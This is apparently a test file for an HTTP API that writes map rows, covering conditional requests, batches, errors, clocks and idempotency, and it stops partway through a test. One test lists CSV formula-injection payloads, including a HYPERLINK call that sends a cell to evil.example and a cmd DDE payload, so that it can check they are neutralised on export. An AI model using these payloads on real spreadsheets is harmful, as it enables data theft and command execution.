// Rows written over HTTP: what is taken, what is refused, and that what was
// acknowledged is everywhere at once and stays.
//
// Plan
//   one row lives: made, seen, replaced, changed, removed; conditions, also
//   of what is seen of it
//   batches in each form, all or nothing, in part, in the place of others
//   what is wrong is told by row, id and field, and nothing is written
//   times after the city's clock: written, appended, played, planned; of the
//   steps of the closed loop, too, not of what is due
//   keys: the same answer for the same request, over a restart too
//   who may: sites, methods, rates, other machines, servers that only read
//   a city that cannot be written, a disk that refuses for a while
//   bodies that are cut, dripped, chunked, huge, pipelined, given up
//   sixty-four writers: each answer is true in the next count, page and tile
//   imports beside it, reloads and a stop under load, with no failed request
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import test from 'node:test';
import zlib from 'node:zlib';

import { done, onemap, random } from './onemap.mjs';
import { csv } from './roles.mjs';
import { makeCity, places, ROWS, run, SOUTH, STEP, tileX, tileY, WEST } from './sample.mjs';
import { raw, serve } from './server.mjs';
import { untilWithin } from './until.mjs';

const until = untilWithin(120e3);
const GEOJSON = 'application/geo+json', LINES = 'application/x-ndjson', CSV = 'text/csv';

/** A request, by an agent that keeps its connections. */
function ask(url, method = 'GET', { body, type = GEOJSON, headers = {}, agent } = {}) {
    return new Promise((resolve, reject) => {
        const request = http.request(url, { method, agent, headers: { ...(body === undefined ? {} : { 'Content-Type': type, 'Content-Length': Buffer.byteLength(body) }), ...headers } }, (response) => {
            const chunks = [];
            response.on('data', (c) => chunks.push(c));
            response.on('end', () => {
                const bytes = Buffer.concat(chunks);
                resolve({ status: response.statusCode, headers: response.headers, body: bytes, json: () => JSON.parse(bytes.toString('utf8')) });
            });
            response.on('error', reject);
        });
        request.on('error', reject);
        request.end(body);
    });
}

function feature(id, { lon = WEST + 0.15, lat = SOUTH + 0.15, ...properties } = {}) {
    return { type: 'Feature', id, geometry: { type: 'Point', coordinates: [lon, lat] },
        properties: { kind: 'shop', weight: 1, at: '2023-04-01T12:00:00+08:00', ...properties } };
}
const text = (value) => JSON.stringify(value);
const collection = (features) => text({ type: 'FeatureCollection', features });

const ITEMS = '/collections/place/items';
const countOf = async (url) => (await ask(`${url}${ITEMS}?limit=1`)).json().numberMatched;

/** The tile of a place at a zoom where few rows share one; all its bytes. */
async function tileAt(url, lon, lat, z = 17) {
    const answer = await ask(`${url}/tiles/place/${z}/${tileX(lon, z)}/${tileY(lat, z)}.mvt`);
    assert.ok([200, 204].includes(answer.status), `tile: ${answer.status}`);
    return answer.body;
}

test('whoever does not see all of a row writes on the condition of what they see', async (t) => {
    const { city } = await makeCity(t), file = path.join(city, 'city.json'), manifest = JSON.parse(await readFile(file, 'utf8'));
    manifest.layers.find((l) => l.name === 'place').personal_columns = ['note'];
    await writeFile(file, JSON.stringify(manifest));
    const { url } = await serve(t, city), at = `${url}${ITEMS}`, one = `${at}/c-1`, type = 'application/merge-patch+json';
    const made = await ask(at, 'POST', { body: text(feature('c-1', { weight: 1 })) });
    assert.deepEqual([made.status, made.headers.etag], [201, undefined]);
    const tag = async (headers) => (await ask(one, 'GET', { headers })).headers.etag;
    const patch = (etag, properties) => ask(one, 'PATCH', { type, headers: { 'If-Match': etag }, body: text({ properties }) });
    const first = await tag(), zipped = await tag({ 'Accept-Encoding': 'gzip' });
    assert.equal('note' in (await ask(one)).json().properties, false);
    assert.ok(!/^"\d+"$/.test(first), 'no sequence: it would tell of what is hidden');
    assert.equal((await ask(one, 'GET', { headers: { 'If-None-Match': first } })).status, 304);
    for (const etag of [first, zipped, `"1", ${first}`]) {
        const weight = (await ask(one)).json().properties.weight;
        const done = await patch(etag, { weight: weight === 1 ? 2 : 1 });
        assert.equal(done.status, 200, `${etag}: ${done.body}`);
        // What is seen has changed; the older one fits no more, the first fits again.
        assert.equal((await patch(etag, { weight: 9 })).status, 412, etag);
        assert.equal((await ask(one, 'PATCH', { type, body: text({ properties: { weight } }) })).status, 200);
        assert.equal(await tag(), first);
    }
    assert.equal((await patch(`"v${'0'.repeat(16)}"`, { weight: 3 })).status, 412);
    assert.equal((await patch(`"${made.json().sequence}"`, { weight: 3 })).status, 412, 'a sequence would tell of what is hidden');
    assert.equal((await ask(`${at}/c-none`, 'PATCH', { type, headers: { 'If-Match': first }, body: text({ properties: { weight: 3 } }) })).status, 412);
    assert.equal((await ask(one, 'DELETE', { headers: { 'If-Match': first } })).status, 204);
});

test('a table has no formulas, and comes back as it was', async (t) => {
    const { city, dir } = await makeCity(t), { url } = await serve(t, city), at = `${url}${ITEMS}`;
    const NOTES = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", '-2+3+cmd', '@SUM(1)', '\t=1', "'=1", "''@x", '=', '-3', '+86 769-2222', '-', "'s-Gravenhage", "it's", 'a=b', '一=二'];
    for (const [i, note] of NOTES.entries()) assert.equal((await ask(at, 'POST', { body: text(feature(`f-${i}`, { note })) })).status, 201, note);
    const table = (await ask(`${at}.csv?filter=${encodeURIComponent("id LIKE 'f-%'")}`)).body.toString(), cells = Object.fromEntries(csv(table).map((row) => [row.id, row.note]));
    for (const [i, note] of NOTES.entries()) {
        assert.ok(!/^[=@\t]|^[+-](?![\d.,() -]*$)/.test(cells[`f-${i}`]), `${note}: ${cells[`f-${i}`]}`);
        assert.equal(cells[`f-${i}`], i < 8 ? `'${note}` : note);
    }
    const notes = async (from) => Object.fromEntries((await ask(`${from}?limit=100&filter=${encodeURIComponent("id LIKE 'f-%'")}`)).json().features.map((f) => [f.id, f.properties.note]));
    const before = await notes(at);
    assert.deepEqual(NOTES.map((_, i) => before[`f-${i}`]), NOTES);
    assert.equal((await ask(`${at}?upsert=true`, 'POST', { type: CSV, body: table })).status, 200);
    assert.deepEqual(await notes(at), before);
    // ... and by an import.
    const file = path.join(dir, 'place.csv'), other = path.join(dir, 'other');
    await writeFile(file, table);
    await done('import', other, 'place', file, '--quiet');
    const again = await serve(t, other);
    assert.deepEqual(await notes(`${again.url}${ITEMS}`), before);
});

test('one row lives', async (t) => {
    const { city } = await makeCity(t), { url } = await serve(t, city), at = `${url}${ITEMS}`;
    // A place of its own, so that tiles show the row and no cell.
    const lon = 113.61234567, lat = 22.81234567;
    const before = await countOf(url), empty = await tileAt(url, lon, lat);
    assert.ok(!empty.includes('新-1'));

    const made = await ask(at, 'POST', { body: text(feature('新-1', { lon, lat, note: '一' })) });
    assert.equal(made.status, 201, made.body.toString());
    assert.equal(made.headers.location, `${at}/${encodeURIComponent('新-1')}`);
    const { id, sequence } = made.json();
    assert.equal(id, '新-1');
    assert.equal(made.headers.etag, `"${sequence}"`);
    assert.equal(made.headers['data-sequence'], String(sequence));
    assert.match(made.headers['data-as-of'], /^\d{4}-.*\+08:00$/);
    assert.equal(await countOf(url), before + 1);
    assert.ok((await tileAt(url, lon, lat)).includes('新-1'));
    assert.equal((await ask(at, 'POST', { body: text(feature('新-1')) })).status, 409);

    const seen = await ask(made.headers.location);
    assert.equal(seen.headers.etag, made.headers.etag);
    assert.equal(seen.headers['cache-control'], 'no-cache');
    const row = seen.json();
    assert.deepEqual([row.properties.note, row.properties.weight, row.properties.square], ['一', 1, 'U11']);
    assert.ok(Math.abs(row.geometry.coordinates[0] - lon) < 1e-6);
    assert.equal((await ask(made.headers.location, 'GET', { headers: { 'If-None-Match': seen.headers.etag } })).status, 304);

    // Only what the patch names changes; the unit follows the place.
    const patched = await ask(made.headers.location, 'PATCH', { type: 'application/merge-patch+json', headers: { 'If-Match': seen.headers.etag },
        body: text({ properties: { weight: null, note: '二' }, geometry: { type: 'Point', coordinates: [lon + STEP, lat] } }) });
    assert.equal(patched.status, 200, patched.body.toString());
    assert.ok(patched.json().sequence > sequence);
    const after = (await ask(made.headers.location)).json();
    assert.deepEqual([after.properties.note, after.properties.weight, after.properties.kind, after.properties.square], ['二', null, 'shop', 'U12']);
    assert.ok(!(await tileAt(url, lon, lat)).includes('新-1'));
    assert.ok((await tileAt(url, lon + STEP, lat)).includes('新-1'));

    // The row is not the one that was read: nothing is lost unseen.
    for (const [method, body] of [['PATCH', '{"properties":{"weight":7}}'], ['PUT', text(feature('新-1'))], ['DELETE', undefined]]) {
        const late = await ask(made.headers.location, method, { body, headers: { 'If-Match': seen.headers.etag } });
        assert.equal(late.status, 412, method);
        assert.equal((await ask(made.headers.location, method, { body, headers: { 'If-Match': `W/${patched.headers.etag}` } })).status, 412, 'weak');
    }
    assert.equal((await ask(made.headers.location, 'PATCH', { body: '{}', headers: { 'If-Match': '123' } })).status, 400);
    const listed = await ask(made.headers.location, 'PATCH', { body: '{"properties":{"weight":8}}', headers: { 'If-Match': `"1", ${patched.headers.etag}, "x"` } });
    assert.equal(listed.status, 200, listed.body.toString());

    // The same row sent gzipped has a tag of its own, which names it, too.
    await ask(made.headers.location, 'PATCH', { body: text({ properties: { note: 'long '.repeat(300) } }) });
    const packed = await ask(made.headers.location, 'GET', { headers: { 'Accept-Encoding': 'gzip' } });
    assert.match(packed.headers.etag, /^"\d+-g"$/);
    assert.equal((await ask(made.headers.location, 'PATCH', { body: '{}', headers: { 'If-Match': packed.headers.etag } })).status, 200);
    assert.equal((await ask(made.headers.location, 'PATCH', { body: '{}', headers: { 'If-Match': packed.headers.etag } })).status, 412);

    const put = await ask(made.headers.location, 'PUT', { body: text({ ...feature('x', { lon, lat }), id: undefined }), headers: { 'If-Match': '*' } });
    assert.equal(put.status, 200);
    assert.equal((await ask(made.headers.location)).json().properties.note, null);
    const other = `${at}/PUT%20%2B`;
    assert.equal((await ask(other, 'PUT', { body: text(feature('PUT +')), headers: { 'If-Match': '*' } })).status, 412);
    assert.equal((await ask(other, 'PUT', { body: text(feature('PUT +')), headers: { 'If-None-Match': '*' } })).status, 201);
    assert.equal((await ask(other, 'PUT', { body: text(feature('PUT +')), headers: { 'If-None-Match': '*' } })).status, 412);
    assert.equal((await ask(other, 'PUT', { body: text(feature('PUT +')) })).status, 200);
    assert.equal((await ask(other, 'PUT', { body: text(feature('another')) })).status, 400);

    assert.equal((await ask(other, 'DELETE')).status, 204);
    assert.equal((await ask(made.headers.location, 'DELETE')).status, 204);
    for (const gone of [other, made.headers.location])
        for (const method of ['GET', 'DELETE', 'PATCH'])
            assert.equal((await ask(gone, method, method === 'PATCH' ? { body: '{}' } : {})).status, 404, `${method} ${gone}`);
    assert.equal(await countOf(url), before);
    assert.ok(!(await tileAt(url, lon, lat)).includes('新-1'));
});

test('batches', async (t) => {
    const { city } = await makeCity(t), server = await serve(t, city), { url } = server, at = `${url}${ITEMS}`;
    // What a server gives it takes back, under other names.
    const rename = (s) => s.replaceAll(/P(\d{5})/g, 'C$1');
    const table = (await ask(`${url}/collections/place/items.csv`)).body.toString('utf8');
    const taken = await ask(at, 'POST', { type: CSV, body: rename(table) });
    assert.equal(taken.status, 200, taken.body.toString());
    assert.equal(taken.json().taken, ROWS);
    assert.equal(taken.json().last - taken.json().first, ROWS - 1);
    const page = (await ask(`${url}${ITEMS}?limit=100000&filter=${encodeURIComponent("id LIKE 'P%'")}`)).json();
    assert.equal(page.features.length, ROWS);
    const lines = rename(page.features.map(text).join('\n')).replaceAll('"C', '"L');
    assert.equal((await ask(at, 'POST', { type: LINES, body: lines })).json().taken, ROWS);
    const document = rename(text(page)).replaceAll('"C', '"D');
    assert.equal((await ask(at, 'POST', { body: document })).json().taken, ROWS);
    assert.equal(await countOf(url), 4 * ROWS);
    const of = async (letter) => (await ask(`${url}/stats/place?by=square&sum=weight&filter=${encodeURIComponent(`id LIKE '${letter}%'`)}`)).body.toString();
    const truth = await of('P');
    for (const letter of ['C', 'L', 'D']) assert.equal((await of(letter)).replaceAll(`${letter}%`, 'P%'), truth, letter);

    // All or nothing, unless asked otherwise; then each refused row is named.
    const mixed = collection([feature('N1'), feature('N2', { weight: 'heavy' }), feature('P00003'), feature('N3'), feature('N3')]);
    const none = await ask(at, 'POST', { body: mixed });
    assert.equal(none.status, 400);
    assert.equal(await countOf(url), 4 * ROWS);
    const clash = await ask(at, 'POST', { body: collection([feature('N1'), feature('P00003')]) });
    assert.equal(clash.status, 409);
    assert.deepEqual(clash.json().errors.map((e) => [e.row, e.id, e.field]), [[2, 'P00003', 'id']]);
    assert.equal((await ask(`${at}/N1`)).status, 404);
    const all = await ask(at, 'POST', { type: LINES, body: page.features.map(text).join('\n') });
    assert.deepEqual([all.status, all.json().refused, all.json().errors.length], [409, ROWS, 100]);
    const some = await ask(`${at}?partial=true`, 'POST', { body: mixed });
    assert.equal(some.status, 200, some.body.toString());
    assert.deepEqual([some.json().taken, some.json().refused], [2, 3]);
    assert.deepEqual(some.json().errors.map((e) => [e.row, e.id, e.field]), [[2, 'N2', 'weight'], [3, 'P00003', 'id'], [5, 'N3', 'id']]);
    assert.equal(await countOf(url), 4 * ROWS + 2);
    // By row, whoever found the fault; the first hundred of them.
    const every = await ask(`${at}?partial=true`, 'POST', { type: LINES, body: Array.from({ length: 200 }, (_, i) => text(feature(`P${String(i).padStart(5, '0')}`, i % 2 ? { weight: 'heavy' } : {}))).join('\n') });
    assert.deepEqual([every.status, every.json().refused], [every.status, 200]);
    assert.deepEqual(every.json().errors.map((e) => [e.row, e.field]), Array.from({ length: 100 }, (_, i) => [i + 1, i % 2 ? 'weight' : 'id']));
    assert.equal((await ask(`${at}?partial=true`, 'POST', { body: collection([feature('')]) })).status, 400);
    const over = await ask(`${at}?upsert=true`, 'POST', { body: collection([feature('P00003', { weight: 77 }), feature('N9')]) });
    assert.equal(over.json().taken, 2);
    assert.equal((await ask(`${at}/P00003`)).json().properties.weight, 77);

    // Lines and shapes, by the same rules.
    const road = { type: 'Feature', id: 'R-new', geometry: { type: 'LineString', coordinates: [[WEST + 0.1, SOUTH + 0.1], [WEST + 0.2, SOUTH + 0.1]] }, properties: { kind: 'lane' } };
    assert.equal((await ask(`${url}/collections/road/items`, 'POST', { body: text(road) })).status, 201);
    assert.equal((await ask(`${url}/collections/road/items/R-new`)).json().geometry.coordinates.length, 2);
    assert.equal((await ask(`${url}/collections/road/items`, 'POST', { type: CSV, body: 'lon,lat,id\n1,2,a\n' })).status, 415);

    // After a restart, and for the command line, it is all there.
    assert.match(await done('query', city, 'place', '--count'), new RegExp(`\\b${4 * ROWS + 3}\\b`));
    server.child.kill('SIGKILL');
    await once(server.child, 'exit');
    const again = await serve(t, city);
    assert.equal(await countOf(again.url), 4 * ROWS + 3);
    assert.equal((await ask(`${again.url}${ITEMS}/P00003`)).json().properties.weight, 77);
    await again.stop();
    assert.match(await done('verify', city), /all sound/);
});

test('what is wrong is told, and nothing is written', async (t) => {
    const { city } = await makeCity(t), { url, port } = await serve(t, city), at = `${url}${ITEMS}`;
    const before = await countOf(url);
    const good = text(feature('X1'));
    const cases = [
        // method, path, {body, type, headers}, status
        ['POST', ITEMS, { body: '' }, 400], ['POST', ITEMS, { body: '{' }, 400], ['POST', ITEMS, { body: '[]' }, 400],
        ['POST', ITEMS, { body: good, type: 'text/plain' }, 415], ['POST', ITEMS, { body: good, type: 'application/x-www-form-urlencoded' }, 415],
        ['POST', ITEMS, { body: good, type: 'multipart/form-data; boundary=x' }, 415], ['POST', ITEMS, { body: good, type: 'application/geo+jsonx' }, 415],
        ['POST', ITEMS, { body: good, type: `${GEOJSON}; charset=gbk` }, 415],
        ['POST', ITEMS, { body: zlib.gzipSync(good), headers: { 'Content-Encoding': 'gzip' } }, 415],
        ['POST', `${ITEMS}?colour=red`, { body: good }, 400], ['POST', `${ITEMS}?partial=perhaps`, { body: good }, 400],
        ['POST', '/collections/nowhere/items', { body: good }, 404], ['POST', '/nowhere', { body: good }, 404],
        ['POST', '/collections/square/items', { body: good }, 405], ['PUT', ITEMS, { body: good }, 405], ['POST', `${ITEMS}/P00001`, { body: good }, 405],
        ['PATCH', `${ITEMS}/P00001`, { body: '{"properties":{"colour":1}}' }, 400], ['PATCH', `${ITEMS}/P00001`, { body: good, type: CSV }, 415],
        ['PATCH', `${ITEMS}/P00001`, { body: '{"id":"P00002"}' }, 400], ['PATCH', `${ITEMS}/P00001`, { body: '{"geometry":null}' }, 400],
        ['PUT', `${ITEMS}/P00001`, { body: collection([feature('P00001')]) }, 400],
        ['DELETE', `${ITEMS}/P00001`, { body: 'x' }, 413],
        ['POST', ITEMS, { body: good, headers: { 'If-Match': '"1"' } }, 400], ['POST', ITEMS, { body: good, headers: { 'If-None-Match': '*' } }, 400],
        ['POST', ITEMS, { body: good, headers: { 'Idempotency-Key': 'a b' } }, 400], ['POST', ITEMS, { body: good, headers: { 'Idempotency-Key': 'x'.repeat(61) } }, 400],
        ['POST', ITEMS, { body: text(feature('X1', { lon: 0, lat: 0 })) }, 400], ['POST', ITEMS, { body: text(feature('X1', { lon: 22.9, lat: 113.7 })) }, 400],
        ['POST', ITEMS, { body: 'lon,lat,id\n113.7,22.9,X1\n', type: GEOJSON }, 400], ['POST', ITEMS, { body: 'lon,lat,id,colour\n113.7,22.9,X1,red\n', type: CSV }, 400],
        ['POST', ITEMS, { body: '\n', type: LINES }, 400],
    ];
    for (const [method, target, options, status] of cases) {
        const answer = await ask(url + target, method, options);
        const what = `${method} ${target} ${options.type ?? ''} ${String(options.body).slice(0, 60)}`;
        assert.equal(answer.status, status, `${what}: ${answer.body}`);
        assert.equal(answer.headers['content-type'], 'application/problem+json', what);
        assert.equal(answer.json().status, status, what);
        assert.equal(answer.headers['access-control-allow-origin'], undefined, what);
        if (status === 415) assert.match(answer.headers['accept-post'] ?? answer.headers['accept-patch'], /geo\+json/, what);
        if (status === 405) assert.match(answer.headers.allow, /GET, HEAD/, what);
    }
    // Every row and every field, the first hundred of them.
    const bad = Array.from({ length: 150 }, (_, i) => feature(`B${i}`, { weight: 'x', colour: i }));
    const { errors, refused } = (await ask(at, 'POST', { body: collection(bad) })).json();
    assert.equal(refused, 150);
    assert.equal(errors.length, 100);
    assert.deepEqual(errors.slice(0, 2).map((e) => [e.row, e.id, e.field]), [[1, 'B0', 'weight'], [1, 'B0', 'colour']]);
    for (const e of errors) assert.ok(e.reason, text(e));
    assert.match((await ask(at, 'POST', { body: text(feature('X1', { lon: 0, lat: 0 })) })).json().errors[0].reason, /outside of the city/);
    // Limits: rows, a document, a body; and a client that asks first is told at once.
    const many = ['lon,lat,id', ...Array.from({ length: 65537 }, (_, i) => `113.7,22.9,M${i}`)].join('\n');
    assert.equal((await ask(at, 'POST', { type: CSV, body: many })).status, 413);
    assert.equal((await ask(at, 'POST', { body: ' '.repeat((8 << 20) + 1) })).status, 413);
    assert.match(await raw(port, `POST ${ITEMS} HTTP/1.1\r\nHost: localhost\r\nContent-Type: ${CSV}\r\nContent-Length: 900000000\r\nExpect: 100-continue\r\n\r\n`), /^HTTP\/1\.1 413 /);
    assert.match(await raw(port, `POST ${ITEMS} HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\nContent-Length: 9\r\nExpect: 100-continue\r\n\r\n`), /^HTTP\/1\.1 415 /);
    assert.equal(await countOf(url), before);
    assert.equal((await ask(at, 'POST', { body: good, type: 'Application/Geo+JSON; charset="UTF-8"' })).status, 201);
    assert.equal((await ask(at, 'POST', { body: text(feature('X2')), type: 'application/json' })).status, 201);
});

test('what has not happened yet is no report', async (t) => {
    const { dir, city } = await makeCity(t);
    const set = async (change) => {
        const file = path.join(city, 'city.json'), manifest = JSON.parse(await readFile(file, 'utf8'));
        change(manifest, manifest.layers.find((l) => l.name === 'place'));
        await writeFile(file, text(manifest));
    };
    // By the machine's clock, where the city has none of its own.
    const real = await serve(t, city), machine = (s) => new Date(Date.now() + s * 1000).toISOString().replace(/\.\d+/, '');
    assert.equal((await ask(real.url + ITEMS, 'POST', { body: text(feature('N1', { at: machine(60) })) })).status, 201);
    const late = await ask(real.url + ITEMS, 'POST', { body: collection([feature('N2'), feature('N3', { at: machine(86400) })]) });
    assert.equal(late.status, 400);
    assert.deepEqual(late.json().errors.map((e) => [e.row, e.id, e.field]), [[2, 'N3', 'at']]);
    assert.match(late.json().errors[0].reason, /is later than the city's clock, 20/);
    assert.equal(await countOf(real.url), ROWS + 1);
    const part = await ask(`${real.url}${ITEMS}?partial=true`, 'POST', { body: collection([feature('N2'), feature('N3', { at: '2099-01-01' })]) });
    assert.deepEqual([part.status, part.json().taken, part.json().refused], [200, 1, 1]);
    for (const [method, body] of [['PUT', feature('N2', { at: machine(86400) })], ['PATCH', { properties: { at: machine(86400) } }]])
        assert.deepEqual((await ask(`${real.url}${ITEMS}/N2`, method, { body: text(body) })).json().errors.map((e) => e.field), ['at'], method);
    assert.equal((await ask(`${real.url}${ITEMS}/N2`, 'PATCH', { body: text({ properties: { weight: 3 } }) })).status, 200);
    await real.stop();

    // A synthetic city's goes as it is told to, and a row's time does not move it.
    await set((m) => { m.synthetic = true; m.clock = '2023-06-27T00:00:00+08:00'; });
    const played = await serve(t, city), at = played.url + ITEMS, clock = async () => (await ask(`${played.url}/?f=json`)).json().clock;
    const go = (id, when, headers = {}) => ask(at, 'POST', { body: text(feature(id, { at: when })), headers });
    assert.equal((await go('S1', '2023-06-27T00:04:00+08:00')).status, 201);
    assert.equal(await clock(), '2023-06-27T00:00:00+08:00');
    assert.equal((await go('S2', '2023-06-27T01:00:00+08:00')).status, 400);
    assert.equal((await go('S2', '2023-06-27T01:00:00+08:00', { 'City-Clock': '2023-06-27T01:00:00+08:00' })).status, 201);
    assert.equal(await clock(), '2023-06-27T01:00:00+08:00');
    assert.equal((await go('S3', '2023-06-27T01:03:00+08:00')).status, 201);

    // Appended from a file: by the clock as it is now, row by row.
    const file = path.join(dir, 'later.csv'), rejects = path.join(dir, 'later.rejects.csv');
    const table = (prefix, times) => writeFile(file, 'lon,lat,id,kind,weight,note,at\n' + times.map((when, i) => `113.6,22.8,${prefix}${i},shop,9,,${when}`).join('\n') + '\n');
    await table('L', ['2023-06-27T01:00:00+08:00', '2033-01-01', '2023-06-27T01:04:00+08:00', '']);
    assert.match(await done('import', city, 'place', file, '--append', '--rejects', rejects), /read 4, taken 3, rejected 1/);
    assert.match(await readFile(rejects, 'utf8'), /^2,"L1","at","later than the city's clock","2033-01-01T00:00:00\+08:00"$/m);
    await played.stop();

    // A layer of what is to come, and one that comes as a whole, are as they say.
    await set((m, place) => { place.planned = true; });
    const planned = await serve(t, city);
    assert.equal((await ask(planned.url + ITEMS, 'POST', { body: text(feature('F1', { at: '2033-01-01' })) })).status, 201);
    await table('M', ['2033-01-01']);
    assert.match(await done('import', city, 'place', file, '--append'), /read 1, taken 1\b/);
    assert.equal(JSON.parse(await readFile(path.join(city, 'city.json'), 'utf8')).layers.find((l) => l.name === 'place').planned, true);
    await set((m, place) => { delete place.planned; });
    assert.match(await done('import', city, 'place', file, '--replace'), /read 1, taken 1\b/);
});

test('a step that has not been made is no step, what is due is a plan', async (t) => {
    const { dir, city } = await makeCity(t), file = path.join(city, 'city.json'), table = path.join(dir, 'report.csv');
    const HEAD = 'lon,lat,id,opened,closed,due,seen', CLOCK = '2023-06-27T00:00:00+08:00', LATE = '2024-01-01T00:00:00+08:00', ITEM = '/collections/report/items';
    const good = { opened: '2023-06-26T08:00:00+08:00', closed: '2023-06-26T09:00:00+08:00', due: LATE, seen: LATE };
    const rows = (...list) => writeFile(table, [HEAD, ...list.map((r, i) => `113.7,22.9,${r.id ?? `R${i}`},${r.opened},${r.closed},${r.due},${r.seen}`)].join('\n') + '\n');
    // As a whole it is what its source says.
    await rows(good, { ...good, closed: LATE });
    await done('import', city, 'report', table, '--time', 'opened');
    const set = async (change) => {
        const manifest = JSON.parse(await readFile(file, 'utf8'));
        change(manifest, manifest.layers.find((l) => l.name === 'report'));
        await writeFile(file, text(manifest));
    };
    await set((m) => {
        m.synthetic = true;
        m.clock = CLOCK;
        m.wall = { loop: { layer: 'report', done: 'closed', due: 'due', steps: [{ value: 'opened', time: 'opened' }, { value: 'closed', time: 'closed' }, { value: 'lost', time: 'nowhere' }, {}] } };
    });
    const served = await serve(t, city), at = served.url + ITEM;
    const feature = (id, more) => ({ type: 'Feature', id, geometry: { type: 'Point', coordinates: [113.7, 22.9] }, properties: { ...good, ...more } });
    const refused = (answer, row = 1, id = 'R0') => {
        assert.equal(answer.status, 400, answer.body);
        assert.deepEqual(answer.json().errors.map((e) => [e.row, e.id, e.field, e.reason]), [[row, id, 'closed', `${LATE} is later than the city's clock, ${CLOCK}`]]);
    };
    refused(await ask(at, 'POST', { body: collection([feature('N1'), feature('N2', { closed: LATE })]) }), 2, 'N2');
    refused(await ask(at, 'POST', { type: 'text/csv', body: `${HEAD}\n113.7,22.9,N1,${good.opened},${LATE},${LATE},${LATE}\n` }), 1, 'N1');
    refused(await ask(`${at}/R0`, 'PATCH', { body: text({ properties: { closed: LATE } }) }));
    refused(await ask(`${at}/R0`, 'PUT', { body: text(feature('R0', { closed: LATE })) }));
    // Plans, other times, a step within the five minutes, one taken back, and a row that came so.
    assert.equal((await ask(at, 'POST', { body: text(feature('N1')) })).status, 201);
    for (const [id, properties] of [['R0', { due: '2030-01-01T00:00:00+08:00' }], ['R0', { closed: '2023-06-27T00:05:00+08:00' }], ['R0', { closed: null }], ['R1', { due: LATE }]])
        assert.equal((await ask(`${at}/${id}`, 'PATCH', { body: text({ properties }) })).status, 200, text(properties));
    assert.equal((await ask(`${at}/R0`, 'PATCH', { headers: { 'City-Clock': '2023-06-27T02:00:00+08:00' }, body: text({ properties: { closed: '2023-06-27T02:00:00+08:00' } }) })).status, 200);

    const rejects = path.join(dir, 'report.rejects.csv');
    await rows({ ...good, id: 'A0' }, { ...good, id: 'A1', closed: LATE }, { ...good, id: 'A2', opened: LATE, closed: '' });
    assert.match(await done('import', city, 'report', table, '--append', '--rejects', rejects), /read 3, taken 1, rejected 2/);
    const told = await readFile(rejects, 'utf8');
    assert.match(told, /^2,"A1","closed","later than the city's clock","2024-01-01T00:00:00\+08:00"$/m);
    assert.match(told, /^3,"A2","opened","later than the city's clock"/m);
    await served.stop();

    // What is planned may begin a loop; its steps are made all the same.
    await set((m, report) => { report.planned = true; });
    const planned = await serve(t, city);
    assert.equal((await ask(planned.url + ITEM, 'POST', { body: text(feature('P1', { opened: LATE })) })).status, 201);
    assert.deepEqual((await ask(planned.url + ITEM, 'POST', { body: text(feature('P2', { opened: LATE, closed: LATE })) })).json().errors.map((e) => e.field), ['closed']);
});

test('a key repeats the answer and not the write', async (t) => {
    const { city } = await makeCity(t), server = await serve(t, city);
    const go = (url, body, key, target = ITEMS) => ask(url + target, 'POST', { body, headers: { 'Idempotency-Key': key } });
    const plain = (a) => [a.status, a.body.toString(), a.headers.location?.replace(/^http:..[^/]*/, ''), a.headers.etag];
    const one = text(feature('K1')), batch = collection([feature('K2'), feature('K3')]);
    const first = await go(server.url, one, 'key-1'), second = await go(server.url, batch, 'key-2');
    assert.deepEqual([first.status, second.status], [201, 200]);
    assert.equal(first.headers['idempotency-replayed'], undefined);
    const before = await countOf(server.url);
    for (const url of [server.url, null]) {
        let where = url;
        if (!where) {
            await server.stop();
            where = (await serve(t, city)).url;
        }
        const again = await go(where, one, 'key-1');
        assert.equal(again.headers['idempotency-replayed'], 'true');
        assert.deepEqual(plain(again), plain(first));
        assert.deepEqual(plain(await go(where, batch, 'key-2')), plain(second));
        assert.equal((await go(where, text(feature('K4')), 'key-1')).status, 422);
        assert.equal((await go(where, one, 'key-1', `${ITEMS}?partial=true`)).status, 422);
        assert.equal((await go(where, one, 'key-3')).status, 409);
        assert.equal(await countOf(where), before);
    }
    // What failed may be tried again under its key; many at once write once.
    const { url } = await serve(t, (await makeCity(t)).city);
    assert.equal((await go(url, text(feature('K5', { weight: 'x' })), 'key-5')).status, 400);
    assert.equal((await go(url, text(feature('K5')), 'key-5')).status, 201);
    const body = collection([feature('K6'), feature('K7')]);
    const answers = await Promise.all(Array.from({ length: 40 }, () => go(url, body, 'key-6')));
    assert.equal(new Set(answers.map((a) => text(plain(a)))).size, 1);
    assert.equal(answers.filter((a) => !a.headers['idempotency-replayed']).length, 1);
});

test('one of many has made the row, and hears it again', async (t) => {
    const { city } = await makeCity(t), server = await serve(t, city), put = (url, id, headers = {}) => ask(`${url}${ITEMS}/${id}`, 'PUT', { body: text(feature(id)), headers });
    for (let round = 0; round < 5; round++) {
        const answers = await Promise.all(Array.from({ length: 30 }, () => put(server.url, `M${round}`)));
        assert.deepEqual(answers.map((a) => a.status).sort(), [...Array(29).fill(200), 201]);
        const [made] = answers.filter((a) => a.status === 201);
        assert.equal(made.json().sequence, Math.min(...answers.map((a) => a.json().sequence)));
        assert.ok(made.headers.location.endsWith(`/M${round}`));
    }
    const first = await put(server.url, 'key', { 'Idempotency-Key': 'put-1' }), later = await put(server.url, 'key', { 'Idempotency-Key': 'put-2' });
    assert.deepEqual([first.status, later.status], [201, 200]);
    await server.stop('SIGKILL');
    const { url } = await serve(t, city);
    for (const [key, was] of [['put-1', first], ['put-2', later]]) {
        const again = await put(url, 'key', { 'Idempotency-Key': key });
        assert.equal(again.headers['idempotency-replayed'], 'true');
        assert.deepEqual([again.status, again.body.toString(), Boolean(again.headers.location)], [was.status, was.body.toString(), was.status === 201]);
    }
});

test('a patch is merged as RFC 7396 says', async (t) => {
    const { city } = await makeCity(t), { url } = await serve(t, city), type = 'application/merge-patch+json';
    const target = (doc, patch) => {  // the RFC's own pseudo code
        if (patch === null || typeof patch !== 'object' || Array.isArray(patch)) return patch;
        const out = doc !== null && typeof doc === 'object' && !Array.isArray(doc) ? { ...doc } : {};
        for (const [key, value] of Object.entries(patch)) if (value === null) delete out[key]; else out[key] = target(out[key], value);
        return out;
    };
    // What is not there has no value, and numbers of places are rounded to the grid.
